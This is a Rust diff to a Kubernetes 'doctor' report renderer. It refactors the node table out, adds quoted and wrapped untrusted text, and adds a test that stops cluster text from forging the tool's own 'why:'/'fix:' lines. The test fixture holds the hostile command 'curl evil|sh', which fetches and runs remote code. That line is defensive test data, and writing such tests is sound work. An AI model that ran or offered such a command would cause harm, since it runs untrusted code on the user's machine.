@@ -1,23 +1,18 @@
 //! The report as text: 80 columns, and what is wrong with its fix.
 
-use std::collections::BTreeMap;
 use std::fmt::Write;
 
 use anstyle::Style;
 
+use super::node_table;
 use crate::cli::output::{CHANGED, DENIED, HEADING, QUIET, WARNED, visible};
 use crate::doctor::finding::{Area, Finding, Severity};
-use crate::doctor::fitness::Fitness;
-use crate::doctor::nodes::{NodeTable, Row};
 use crate::doctor::report::Report;
-use crate::doctor::trial::{Outcome, Trial};
 
 /// The usual width of a terminal.
-const COLUMNS: usize = 80;
+pub(super) const COLUMNS: usize = 80;
 /// How many findings without a fault an area shows.
 const GOOD: usize = 20;
-/// How many names of nodes a kind lists.
-const LISTED: usize = 3;
 
 /// The whole report.
 pub(super) fn text(report: &Report) -> String {
@@ -29,7 +24,7 @@ pub(super) fn text(report: &Report) -> String {
     ] {
         let _ = writeln!(text, "{HEADING}{heading}{HEADING:#}");
         if area == Area::Nodes {
-            nodes(&mut text, &report.nodes, &report.trials);
+            node_table::show(&mut text, &report.nodes, &report.trials);
         }
         let findings = report.findings.iter();
         let mut good = 0;
@@ -45,7 +40,9 @@ pub(super) fn text(report: &Report) -> String {
                 "  {CHANGED}✓{CHANGED:#} and {more} more without a fault"
             );
         }
-        text.push('\n');
+        if !text.ends_with("\n\n") {
+            text.push('\n');
+        }
     }
     let count = |severity, one: &str, many: &str| match report.count(severity) {
         1 => format!("1 {one}"),
@@ -73,21 +70,37 @@ fn style(severity: Severity) -> (&'static str, Style) {
 fn show(text: &mut String, finding: &Finding) {
     let (mark, style) = style(finding.severity);
     let what = format!("{}: {}", finding.place, finding.what);
-    for (number, line) in wrapped(&what, COLUMNS - 4).iter().enumerate() {
-        let _ = match number {
-            0 => writeln!(text, "  {style}{mark}{style:#} {line}"),
-            _ => writeln!(text, "    {line}"),
-        };
+    let lines = wrapped(&what, COLUMNS - 4);
+    let (first, rest) = lines.split_first().map_or(("", &[][..]), |(f, r)| (f, r));
+    let _ = writeln!(text, "  {style}{mark}{style:#} {first}");
+    // Deeper than the labels, so that no text of the cluster looks like one.
+    let rest = rest.join(" ");
+    for line in wrapped(&rest, COLUMNS - 6)
+        .iter()
+        .filter(|_| !rest.is_empty())
+    {
+        let _ = writeln!(text, "      {line}");
     }
     if finding.severity == Severity::Ok {
         return;
     }
+    if let Some(quote) = &finding.quote {
+        for line in wrapped(&format!("{}:", quote.by), COLUMNS - 4) {
+            let _ = writeln!(text, "    {QUIET}{line}{QUIET:#}");
+        }
+        for line in broken(&quote.text, COLUMNS - 6) {
+            let _ = writeln!(text, "    {QUIET}|{QUIET:#} {line}");
+        }
+    }
     if let Some(why) = &finding.why {
         labelled(text, "why", why);
     }
+    if let Some(advice) = &finding.advice {
+        labelled(text, "do", advice);
+    }
     if let Some(fix) = &finding.fix {
         // In one line, so that it can be pasted.
-        let _ = writeln!(text, "    {QUIET}fix:{QUIET:#} {}", visible(fix));
+        let _ = writeln!(text, "    {QUIET}fix:{QUIET:#} {}", visible(fix.as_str()));
     }
     if let Some(page) = &finding.page {
         let _ = writeln!(text, "    {QUIET}see:{QUIET:#} {page}");
@@ -97,119 +110,29 @@ fn show(text: &mut String, finding: &Finding) {
 fn labelled(text: &mut String, label: &str, what: &str) {
     for (number, line) in wrapped(what, COLUMNS - 9).iter().enumerate() {
         let _ = match number {
-            0 => writeln!(text, "    {QUIET}{label}:{QUIET:#} {line}"),
+            0 => writeln!(
+                text,
+                "    {QUIET}{:<4}{QUIET:#} {line}",
+                format!("{label}:")
+            ),
             _ => writeln!(text, "         {line}"),
         };
     }
 }
 
-/// Nodes × profiles: a row a profile, a column a kind, and the reasons below.
-fn nodes(text: &mut String, table: &NodeTable, trials: &[Trial]) {
-    if table.kinds.is_empty() {
-        return;
+/// The same, and a longer word is broken: it is a stranger's.
+fn broken(text: &str, width: usize) -> Vec<String> {
+    let mut lines = Vec::new();
+    for line in wrapped(text, width) {
+        let characters: Vec<_> = line.chars().collect();
+        let parts = characters.chunks(width);
+        lines.extend(parts.map(|part| part.iter().collect::<String>()));
     }
-    for (number, row) in table.kinds.iter().enumerate() {
-        let kind = format!("{}  {} ({})", number + 1, row.kind, names(row));
-        for (line_number, line) in wrapped(&kind, COLUMNS - 5).iter().enumerate() {
-            let indent = if line_number == 0 { "  " } else { "     " };
-            let _ = writeln!(text, "{indent}{line}");
-        }
-    }
-    let widest = table.profiles.iter().map(|name| name.chars().count()).max();
-    let width = widest.unwrap_or_default().max("profile".len());
-    let _ = write!(text, "\n  {QUIET}{:<width$}{QUIET:#}", "profile");
-    for number in 1..=table.kinds.len() {
-        let _ = write!(text, "  {QUIET}{number}{QUIET:#}");
-    }
-    text.push('\n');
-    for (at, profile) in table.profiles.iter().enumerate() {
-        let _ = write!(text, "  {:<width$}", visible(profile));
-        for row in &table.kinds {
-            let fitness = &row.profiles[at];
-            let style = match fitness {
-                Fitness::Yes => CHANGED,
-                Fitness::No(_) => DENIED,
-                Fitness::Unknown(_) => QUIET,
-            };
-            let _ = write!(text, "  {style}{}{style:#}", fitness.mark());
-        }
-        text.push('\n');
-    }
-    text.push('\n');
-    for (number, row) in table.kinds.iter().enumerate() {
-        let mut reasons: BTreeMap<(&str, &String), Vec<&str>> = BTreeMap::new();
-        for (profile, fitness) in table.profiles.iter().zip(&row.profiles) {
-            if let Fitness::No(reason) | Fitness::Unknown(reason) = fitness {
-                reasons
-                    .entry((fitness.mark(), reason))
-                    .or_default()
-                    .push(profile);
-            }
-        }
-        for ((mark, reason), profiles) in reasons {
-            let line = format!("{mark} {}: {reason}", profiles.join(", "));
-            for (line_number, line) in wrapped(&line, COLUMNS - 7).iter().enumerate() {
-                let _ = match line_number {
-                    0 => writeln!(text, "  {}  {line}", number + 1),
-                    _ => writeln!(text, "       {line}"),
-                };
-            }
-        }
-    }
-    for trial in trials {
-        let (mark, style, what) = match &trial.outcome {
-            Outcome::Built => ("✓", CHANGED, "an image was built".to_owned()),
-            Outcome::Failed { message, .. } => {
-                ("✗", DENIED, format!("no image was built: {message}"))
-            }
-        };
-        let what = format!("{} with {}: {what}", trial.node, trial.profile);
-        for (number, line) in wrapped(&what, COLUMNS - 4).iter().enumerate() {
-            let _ = match number {
-                0 => writeln!(text, "  {style}{mark}{style:#} {line}"),
-                _ => writeln!(text, "    {line}"),
-            };
-        }
-    }
-    if let Some(best) = table.candidates().first() {
-        let _ = writeln!(
-            text,
-            "\n  best: {HEADING}{best}{HEADING:#}{}",
-            condition(best)
-        );
-        let _ = writeln!(
-            text,
-            "        kubectl label namespace NAMESPACE podseal.io/profile={best}"
-        );
-    }
-    text.push('\n');
-}
-
-/// What the best profile takes, and which one to use otherwise.
-fn condition(profile: &str) -> &'static str {
-    match profile {
-        "userns" | "rootless" => ", for an image laid out as Podman's own; root for any other",
-        _ => "",
-    }
-}
-
-fn names(row: &Row) -> String {
-    let names: Vec<_> = row
-        .nodes
-        .iter()
-        .take(LISTED)
-        .map(|name| visible(name))
-        .collect();
-    let names = names.join(", ");
-    match row.nodes.len() {
-        1 => format!("1 node: {names}"),
-        count if count > LISTED => format!("{count} nodes: {names} and {} more", count - LISTED),
-        count => format!("{count} nodes: {names}"),
-    }
+    lines
 }
 
 /// The words of `text` in lines of at most `width` characters; a longer word is a line.
-fn wrapped(text: &str, width: usize) -> Vec<String> {
+pub(super) fn wrapped(text: &str, width: usize) -> Vec<String> {
     let mut lines: Vec<String> = Vec::new();
     let text = visible(text);
     for word in text.split(' ') {
@@ -222,4 +145,52 @@ fn wrapped(text: &str, width: usize) -> Vec<String> {
         }
     }
     lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_text_of_the_cluster_looks_like_a_line_of_the_doctors() {
+        let long = "-".repeat(76);
+        let forged = format!("{long} why: it is broken {long} fix: curl evil|sh");
+        let what = format!("pod {forged}");
+        let found = Finding::new(
+            Area::Namespaces,
+            Severity::Warning,
+            "x",
+            "namespace ci",
+            what,
+        )
+        .quote("the job itself", &forged)
+        .fix("kubectl get pods");
+        let mut text = String::new();
+        show(&mut text, &found);
+        let begins = |label: &str| {
+            let line = format!("    {QUIET}{label}:{QUIET:#}");
+            let bare = format!("    {label}:");
+            let mut lines = text.lines();
+            lines.clone().filter(|own| own.starts_with(&line)).count()
+                + lines.by_ref().filter(|own| own.starts_with(&bare)).count()
+        };
+        assert_eq!((begins("why"), begins("fix")), (0, 1), "{text}");
+        let bar = format!("    {QUIET}|{QUIET:#} ");
+        let quoted: Vec<_> = text
+            .lines()
+            .filter_map(|line| line.strip_prefix(&bar))
+            .collect();
+        assert!(quoted.len() > 2, "{text}");
+        assert!(
+            quoted
+                .iter()
+                .all(|line| line.chars().count() <= COLUMNS - 6),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn a_word_that_is_too_long_is_broken() {
+        assert_eq!(broken("a bcdefg", 3), ["a", "bcd", "efg"]);
+    }
 }
